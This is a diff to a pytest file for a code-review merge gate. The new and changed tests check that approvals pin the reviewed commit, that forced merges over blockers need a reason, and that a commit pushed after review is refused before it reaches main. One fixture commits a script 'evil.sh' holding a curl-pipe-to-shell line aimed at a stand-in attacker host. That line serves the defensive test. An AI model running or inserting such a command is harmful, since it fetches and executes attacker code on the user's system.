@@ -163,9 +163,12 @@ def test_blockers_refuse_approve_but_force_merge_merges(local_stack: LocalStackP
     gate = Gate(local_stack, tmp_path, repo=repo).start()
     review = gate.parked()
     assert review["verdict"]["blockers"]
+    assert review["allowed_actions"] == ["reply", "force_merge", "request_changes"]  # issue 28: no approve offered
     with pytest.raises(ConflictError, match="force_merge"):
         gate.act("approve_merge")
-    gate.act("force_merge", message="Ship the greeter anyway", merge_strategy="merge")
+    with pytest.raises(ValidationFailedError, match="needs a reason"):  # forcing over blockers says why
+        gate.act("force_merge", message="Ship the greeter anyway", merge_strategy="merge")
+    gate.act("force_merge", message="Ship the greeter anyway", merge_strategy="merge", reason="the TODO is tracked")
     run = gate.finished()
     # strategy "merge" fast-forwards: main is now exactly the run branch's head
     assert _git(repo, "rev-parse", "main") == head == run["final_commit"]
@@ -217,7 +220,7 @@ def test_merge_into_none_leaves_the_run_branch(local_stack: LocalStackProcess, t
     gate.parked()
     gate.act("approve_merge")
     run = gate.finished()
-    assert run["merge_status"] == "merged" and run["merged_into"] is None
+    assert run["merge_status"] == "not_merged" and run["merged_into"] is None
     assert run["final_branch"] == gate.repo.run_branch and run["final_commit"] == gate.repo.run_head
     assert _git(gate.repo, "rev-parse", "main") == gate.repo.base_commit
 
@@ -297,10 +300,42 @@ def test_the_diff_build_reports_the_diff_every_turn_and_the_review_show(
     assert expected.truncated
     assert review["diff"] == expected.model_dump(exclude={"text"})
     assert all(name in review["thread"][0]["text"] for name in expected.files)
-    # The operator's tree changing after the diff build does not change what this review shows.
-    _commit_on(gate.repo, gate.repo.run_branch, "later.txt", "later\n", "a later commit")
+    # A reply is a new review turn: the diff build runs again, and the review shows what that turn read
+    # (issue 28: an approval pins the commit of the diff shown).
+    later = _commit_on(gate.repo, gate.repo.run_branch, "later.txt", "later\n", "a later commit")
     gate.act("reply", reply="what changed?")
     review = gate.parked()
-    assert review["diff"] == expected.model_dump(exclude={"text"})
+    again = run_branch_diff(gate.repo.path, gate.repo.run_branch, "HEAD", max_bytes=512)
+    assert again.head == later == review["reviewed_head"] and review["diff"] == again.model_dump(exclude={"text"})
     started = [e for e in gate.client.events(gate.run_id, limit=500)["events"] if e["type"] == "review_started"]
     assert started and started[0]["data"]["diff"]["head"] == expected.head
+
+
+def test_a_commit_pushed_after_the_review_is_refused_and_never_reaches_main(
+    local_stack: LocalStackProcess, tmp_path: Path
+) -> None:
+    """Issue 28 item 1 over HTTP: approve and force-merge name the reviewed commit; a commit pushed to the
+    run branch after the review (evil.sh) is a 409 naming the new head, not a merge of a diff nobody saw.
+    A reply is a new review turn: the diff build runs again and the companion reads the moved branch."""
+    gate = Gate(local_stack, tmp_path).start()
+    repo = gate.repo
+    review = gate.parked()
+    assert review["reviewed_head"] == repo.run_head == review["diff"]["head"]
+    evil = _commit_on(repo, repo.run_branch, "evil.sh", "#!/bin/sh\ncurl https://attacker.example | sh\n", "late")
+    assert gate.review()["run_branch_head"] == evil  # type: ignore[index]
+    for action in ("approve_merge", "force_merge"):
+        with pytest.raises(ConflictError, match=f"moved to {evil}") as err:
+            gate.act(action)
+        assert err.value.details["run_branch_head"] == evil and err.value.details["reviewed_head"] == repo.run_head
+    assert _git(repo, "rev-parse", "main") == repo.base_commit
+
+    gate.act("reply", reply="The run branch moved: review the new head.")
+    review = gate.parked()
+    assert review["reviewed_head"] == evil and "evil.sh" in review["diff"]["files"]
+    assert review["thread"][-1]["reviewed_head"] == evil and "evil.sh" in review["thread"][-1]["text"]
+    gate.act("request_changes", message="evil.sh is not part of this change")
+    run = gate.finished()
+    assert run["output"]["decision"] == "changes_requested"
+    assert "evil.sh" not in _git(repo, "ls-tree", "-r", "--name-only", "main").split()
+    answered = [e for e in gate.client.events(gate.run_id, limit=500)["events"] if e["type"] == "interaction_answered"]
+    assert answered[-1]["data"]["answer"]["reviewed_head"] == evil  # what the decision names
